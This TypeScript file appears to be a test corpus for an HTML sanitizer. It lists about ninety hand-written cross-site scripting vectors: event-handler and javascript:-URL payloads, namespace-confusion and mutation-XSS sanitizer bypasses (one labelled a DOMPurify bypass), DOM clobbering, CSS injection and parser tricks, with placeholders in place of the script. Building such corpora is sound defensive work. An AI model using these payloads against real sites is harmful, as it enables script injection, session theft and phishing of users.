import type { CorpusCategory } from './corpus-types';

/**
 * Hand-written vectors, from the well-known families (written for this corpus; public lists cannot
 * be downloaded here). Placeholders: see `fillPayload`.
 */
export const HAND_WRITTEN: ReadonlyArray<{
  category: CorpusCategory;
  note: string;
  html: string;
  clobbers?: string[];
}> = [
  // Script and event handlers.
  { category: 'script-and-handlers', note: 'plain script', html: '<script>{X}</script>' },
  {
    category: 'script-and-handlers',
    note: 'script src data',
    html: '<script src="data:text/javascript,{X}"></script>',
  },
  { category: 'script-and-handlers', note: 'img onerror', html: '<img src=x onerror={X}>' },
  {
    category: 'script-and-handlers',
    note: 'img onerror backticks',
    html: '<img src=`x` onerror=`{X}`>',
  },
  { category: 'script-and-handlers', note: 'svg onload', html: '<svg onload={X}>' },
  { category: 'script-and-handlers', note: 'svg/onload slash', html: '<svg/onload={X}>' },
  { category: 'script-and-handlers', note: 'body onload', html: '<body onload={X}>' },
  {
    category: 'script-and-handlers',
    note: 'details ontoggle',
    html: '<details open ontoggle={X}><summary>s</summary></details>',
  },
  {
    category: 'script-and-handlers',
    note: 'input autofocus onfocus',
    html: '<input autofocus onfocus={X}>',
  },
  {
    category: 'script-and-handlers',
    note: 'select autofocus',
    html: '<select autofocus onfocus={X}></select>',
  },
  {
    category: 'script-and-handlers',
    note: 'iframe srcdoc script',
    html: '<iframe srcdoc="&lt;script&gt;{PX}&lt;/script&gt;"></iframe>',
  },
  {
    category: 'script-and-handlers',
    note: 'iframe onload',
    html: '<iframe onload={X}></iframe>',
  },
  {
    category: 'script-and-handlers',
    note: 'video source onerror',
    html: '<video><source onerror={X}></video>',
  },
  {
    category: 'script-and-handlers',
    note: 'audio src onerror',
    html: '<audio src=x onerror={X}></audio>',
  },
  {
    category: 'script-and-handlers',
    note: 'marquee onstart',
    html: '<marquee onstart={X}>m</marquee>',
  },
  {
    category: 'script-and-handlers',
    note: 'object data html',
    html: '<object data="data:text/html,&lt;script&gt;{MSG}&lt;/script&gt;"></object>',
  },
  {
    category: 'script-and-handlers',
    note: 'embed src html',
    html: '<embed src="data:text/html,&lt;script&gt;{MSG}&lt;/script&gt;">',
  },
  {
    category: 'script-and-handlers',
    note: 'style animation handler',
    html: '<p style="animation-name:xss-spin;animation-duration:1ms" onanimationstart={X}>a</p>',
  },
  {
    category: 'script-and-handlers',
    note: 'event with entity-encoded code',
    html: '<img src=x onerror="&#95;&#95;xss&#40;{ID}&#41;">',
  },
  {
    category: 'script-and-handlers',
    note: 'unquoted handler slash',
    html: '<img/src="x"/onerror={X}>',
  },
  {
    category: 'script-and-handlers',
    note: 'handler with newline before =',
    html: '<img src=x onerror\n={X}>',
  },
  {
    category: 'script-and-handlers',
    note: 'custom element handler',
    html: '<x-promo onclick={X}>c</x-promo>',
  },
  {
    category: 'script-and-handlers',
    note: 'form button formaction',
    html: '<form><button formaction="javascript:{PX}">b</button></form>',
  },
  {
    category: 'script-and-handlers',
    note: 'isindex',
    html: '<isindex type=image src=1 onerror={X}>',
  },
  // URLs.
  { category: 'dangerous-urls', note: 'a javascript', html: '<a href="javascript:{PX}">a</a>' },
  {
    category: 'dangerous-urls',
    note: 'a javascript with leading control char',
    html: '<a href="&#1;javascript:{PX}">a</a>',
  },
  {
    category: 'dangerous-urls',
    note: 'a javascript comment newline',
    html: '<a href="javascript://%0a{PX}">a</a>',
  },
  {
    category: 'dangerous-urls',
    note: 'a data html',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  },
  {
    category: 'dangerous-urls',
    note: 'meta refresh javascript',
    html: '<meta http-equiv="refresh" content="0;url=javascript:{PX}">',
  },
  {
    category: 'dangerous-urls',
    note: 'base javascript',
    html: '<base href="javascript:{PX}//"><a href="/x">a</a>',
  },
  {
    category: 'dangerous-urls',
    note: 'area javascript',
    html: '<map name=m><area href="javascript:{PX}" shape=rect coords=0,0,9,9></map><img usemap=#m src=x>',
  },
  {
    category: 'dangerous-urls',
    note: 'form action javascript',
    html: '<form action="javascript:{PX}"><input type=submit></form>',
  },
  {
    category: 'dangerous-urls',
    note: 'iframe src javascript',
    html: '<iframe src="javascript:{PX}"></iframe>',
  },
  {
    category: 'dangerous-urls',
    note: 'link stylesheet javascript',
    html: '<link rel=stylesheet href="javascript:{PX}">',
  },
  {
    category: 'dangerous-urls',
    note: 'a href vbscript',
    html: '<a href="vbscript:msgbox(1)">a</a>',
  },
  {
    category: 'dangerous-urls',
    note: 'img src svg data with script',
    html: '<img src="data:image/svg+xml,&lt;svg onload=&quot;{PX}&quot;/&gt;">',
  },
  {
    category: 'dangerous-urls',
    note: 'a xlink in html',
    html: '<a xlink:href="javascript:{PX}">a</a>',
  },
  // Namespace confusion.
  {
    category: 'namespace-confusion',
    note: 'DOMPurify 2.0.0 bypass (form/math/mglyph)',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>',
  },
  {
    category: 'namespace-confusion',
    note: 'math mtext table mglyph style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={X}&gt;">',
  },
  {
    category: 'namespace-confusion',
    note: 'svg p style',
    html: '<svg></p><style><a id="</style><img src=1 onerror={X}>">',
  },
  {
    category: 'namespace-confusion',
    note: 'math mi mglyph svg mtext textarea',
    html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={X} src=1>">',
  },
  {
    category: 'namespace-confusion',
    note: 'svg foreignObject img',
    html: '<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'math annotation-xml html',
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror={X}></annotation-xml></math>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg a xlink javascript',
    html: '<svg><a xlink:href="javascript:{PX}"><text x=9 y=9>t</text></a></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg animate href',
    html: '<svg><a><animate attributeName=href values="javascript:{PX}"/><text x=9 y=9>t</text></a></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg set onbegin',
    html: '<svg><set attributeName=x onbegin={X} dur=1ms /></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg animate onbegin',
    html: '<svg><animate onbegin={X} attributeName=x dur=1ms /></svg>',
  },
  { category: 'namespace-confusion', note: 'svg script', html: '<svg><script>{X}</script></svg>' },
  {
    category: 'namespace-confusion',
    note: 'svg script href data',
    html: '<svg><script href="data:text/javascript,{X}"></script></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg use data',
    html: '<svg><use href="data:image/svg+xml,&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;image href=&quot;1&quot; onerror=&quot;{PX}&quot;/&gt;&lt;/svg&gt;#x"/></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg title style breakout',
    html: '<svg><title><style><img src=x onerror={X}></style></title></svg>',
  },
  {
    category: 'namespace-confusion',
    note: 'math style img',
    html: '<math><style><img src=x onerror={X}></style></math>',
  },
  {
    category: 'namespace-confusion',
    note: 'svg cdata',
    html: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={X}>"></svg>',
  },
  // Mutation XSS.
  {
    category: 'mutation-xss',
    note: 'noscript title',
    html: '<noscript><p title="</noscript><img src=x onerror={X}>">',
  },
  {
    category: 'mutation-xss',
    note: 'template style',
    html: '<template><style></template><img src=x onerror={X}></style></template>',
  },
  {
    category: 'mutation-xss',
    note: 'style in style',
    html: '<style><style/><img src=x onerror={X}>',
  },
  {
    category: 'mutation-xss',
    note: 'comment breakout',
    html: '<!--<img src="--><img src=x onerror={X}//">',
  },
  {
    category: 'mutation-xss',
    note: 'comment bang',
    html: '<!--!><img src=x onerror={X}>-->',
  },
  {
    category: 'mutation-xss',
    note: 'textarea title',
    html: '<textarea><p title="</textarea><img src=x onerror={X}>"></textarea>',
  },
  {
    category: 'mutation-xss',
    note: 'xmp title',
    html: '<xmp><p title="</xmp><img src=x onerror={X}>"></xmp>',
  },
  {
    category: 'mutation-xss',
    note: 'noembed',
    html: '<noembed><img title="</noembed><img src=x onerror={X}>"></noembed>',
  },
  {
    category: 'mutation-xss',
    note: 'table foster parenting',
    html: '<table><img src=x onerror={X}><tr><td>t</td></tr></table>',
  },
  {
    category: 'mutation-xss',
    note: 'select style',
    html: '<select><style></select><img src=x onerror={X}></style></select>',
  },
  {
    category: 'mutation-xss',
    note: 'processing instruction',
    html: '<?xml ><img src=x onerror={X}>?>',
  },
  {
    category: 'mutation-xss',
    note: 'nested forms',
    html: '<form id=a><form id=b><img src=x onerror={X}></form></form>',
  },
  // DOM clobbering.
  {
    category: 'dom-clobbering',
    note: 'form attributes input',
    html: '<form id=clobberForm><input name=attributes><input name=removeAttribute></form>',
    clobbers: ['window.clobberForm'],
  },
  {
    category: 'dom-clobbering',
    note: 'anchor collection config',
    html: '<a id=siteConfig></a><a id=siteConfig name=scriptUrl href="data:,{X}"></a>',
    clobbers: ['window.siteConfig'],
  },
  {
    category: 'dom-clobbering',
    note: 'img name cookie',
    html: '<img name=cookie src=x>',
    clobbers: ['document.cookie'],
  },
  {
    category: 'dom-clobbering',
    note: 'form name getElementById',
    html: '<form name=getElementById></form>',
    clobbers: ['document.getElementById'],
  },
  {
    category: 'dom-clobbering',
    note: 'embed name body',
    html: '<embed name=body>',
    clobbers: ['document.body'],
  },
  {
    category: 'dom-clobbering',
    note: 'object name defaultView',
    html: '<object name=defaultView></object>',
    clobbers: ['document.defaultView'],
  },
  {
    category: 'dom-clobbering',
    note: 'iframe name currentScript',
    html: '<iframe name=currentScript></iframe>',
    clobbers: ['document.currentScript'],
  },
  // CSS.
  {
    category: 'css',
    note: 'background url javascript',
    html: '<div style="background:url(javascript:{PX})">d</div>',
  },
  {
    category: 'css',
    note: 'background-image url escaped',
    html: '<div style="background-image:u\\72l(javascript:{PX})">d</div>',
  },
  { category: 'css', note: 'expression', html: '<div style="width:expression({X})">d</div>' },
  {
    category: 'css',
    note: 'behavior',
    html: '<div style="behavior:url(x.htc)">d</div>',
  },
  {
    category: 'css',
    note: 'moz-binding',
    html: '<div style="-moz-binding:url(data:text/xml,x)">d</div>',
  },
  {
    category: 'css',
    note: 'style import javascript',
    html: "<style>@import 'javascript:{PX}';</style>",
  },
  {
    category: 'css',
    note: 'list-style-image',
    html: '<ul style="list-style-image:url(javascript:{PX})"><li>l</li></ul>',
  },
  {
    category: 'css',
    note: 'full-screen overlay',
    html: '<div style="position:fixed;inset:0;z-index:99999;background:white"><a href="javascript:{PX}">Log in</a></div>',
  },
  {
    category: 'css',
    note: 'style attr with comment in property',
    html: '<div style="pos/**/ition:fixed;back\\67round:url(javascript:{PX})">d</div>',
  },
  // Parser tricks.
  {
    category: 'parser-tricks',
    note: 'split script',
    html: '<scr<script>ipt>{X}</scr</script>ipt>',
  },
  { category: 'parser-tricks', note: 'double open', html: '<<script>{X}//<</script>' },
  {
    category: 'parser-tricks',
    note: 'quote attribute breakout',
    html: '<img """><script>{X}</script>">',
  },
  {
    category: 'parser-tricks',
    note: 'unclosed img',
    html: '<img src=x onerror="{X}"',
  },
  {
    category: 'parser-tricks',
    note: 'title breakout',
    html: '<title><img src=x onerror={X}></title>',
  },
  {
    category: 'parser-tricks',
    note: 'plaintext',
    html: '<plaintext><img src=x onerror={X}>',
  },
  {
    category: 'parser-tricks',
    note: 'iframe text',
    html: '<iframe><img title="</iframe><img src=x onerror={X}>"></iframe>',
  },
  {
    category: 'parser-tricks',
    note: 'null byte in tag',
    html: '<img src=x o\u0000nerror={X}><scr\u0000ipt>{X}</script>',
  },
  {
    category: 'parser-tricks',
    note: 'self-close in attribute',
    html: '<a title="/><img src=x onerror={X}>">a</a>',
  },
  {
    category: 'parser-tricks',
    note: 'srcdoc entity script',
    html: '<iframe srcdoc="&#60;img src=x onerror=&#34;{PX}&#34;&#62;"></iframe>',
  },
];
